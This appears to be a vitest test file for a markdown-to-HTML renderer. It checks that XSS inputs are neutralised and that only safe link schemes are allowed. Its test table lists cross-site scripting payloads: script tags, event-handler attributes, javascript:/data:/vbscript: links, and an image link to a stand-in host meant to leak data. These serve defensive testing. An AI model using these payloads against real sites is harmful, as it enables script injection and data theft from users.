import { describe, expect, it } from 'vitest'
import * as fc from 'fast-check'
import { blocks, isLinkable, toHtml } from './markdown.ts'

const html = (text: string): string => toHtml(blocks(text))

describe('toHtml', () => {
  it.each([
    ['<script>alert(1)</script>', /<script/i],
    ['<img src=x onerror=alert(1)>', /<img/i],
    ['a <b onclick="x()">b</b>', /<b /i],
    ['<iframe src="https://evil.example"></iframe>', /<iframe/i],
    ['<svg><script>1</script></svg>', /<svg/i],
    ['![](https://evil.example/?q=secret)', /<img/i],
    ['![x](javascript:alert(1))', /javascript:/i],
    ['[x](javascript:alert(1))', /href/i],
    ['[x](JaVaScRiPt:alert(1))', /href/i],
    ['[x](data:text/html,<script>1</script>)', /href/i],
    ['[x](vbscript:1)', /href/i],
    ['[x](//evil.example)', /href/i],
    ['<https://a.example/"onmouseover="x>', /"\s*onmouseover/i],
    ['[x](https://a.example "t\\" onclick=x")', /onclick/i],
    ['```"><img src=x>\ncode\n```', /<img/i],
    ['```html\n<script>1</script>\n```', /<script/i],
    ['`<script>`', /<script/i],
    ['| <script> |\n|-|\n| x |', /<script/i],
    ['- [ ] <input onfocus=x autofocus>', /<input/i],
    ['<style>*{display:none}</style>', /<style/i],
    ['[a]: javascript:alert(1)\n\n[a]', /href/i],
  ])('disarms %j', (text, forbidden) => {
    expect(html(text)).not.toMatch(forbidden)
  })

  it('only ever writes tags of its own', () => {
    const own =
      /^(?:p|br|hr|strong|em|del|code|pre|blockquote|a|ul|ol|li|h[3-6]|table|thead|tbody|tr|th|td)$/
    const pieces = fc.constantFrom(
      ...[
        '<script>',
        '</p>',
        '<img src=x onerror=y>',
        '[a](',
        'javascript:',
        ')',
        '![',
        ']',
      ],
      ...[
        '```',
        '`',
        '\n',
        '\n\n',
        '- ',
        '> ',
        '# ',
        '|',
        '"',
        "'",
        '&lt;',
        '<!--',
        '<?',
        'x',
      ],
    )
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 14 }), (parts) => {
        for (const [, tag] of html(parts.join('')).matchAll(/<\/?([a-zA-Z!?][^\s>]*)/g))
          expect(tag).toMatch(own)
      }),
      { numRuns: 2000 },
    )
  })

  it('keeps what people write', () => {
    expect(html('**a** and [b](https://b.example/?x=1&y=2)')).toBe(
      '<p><strong>a</strong> and <a href="https://b.example/?x=1&amp;y=2">b</a></p>\n',
    )
    expect(html('# Title')).toBe('<h3>Title</h3>')
    expect(html('```ts\nlet a = 1 < 2\n```')).toContain('let a = 1 &lt; 2')
    expect(html('- [x] done')).toContain('☑')
  })
})

it('links only to the web and to mail', () => {
  expect(['https://a', 'HTTP://a', 'mailto:a@b'].every(isLinkable)).toBe(true)
  expect(
    ['javascript:1', '/a', '//a', 'ftp://a', ' https://a', ''].some(isLinkable),
  ).toBe(false)
})
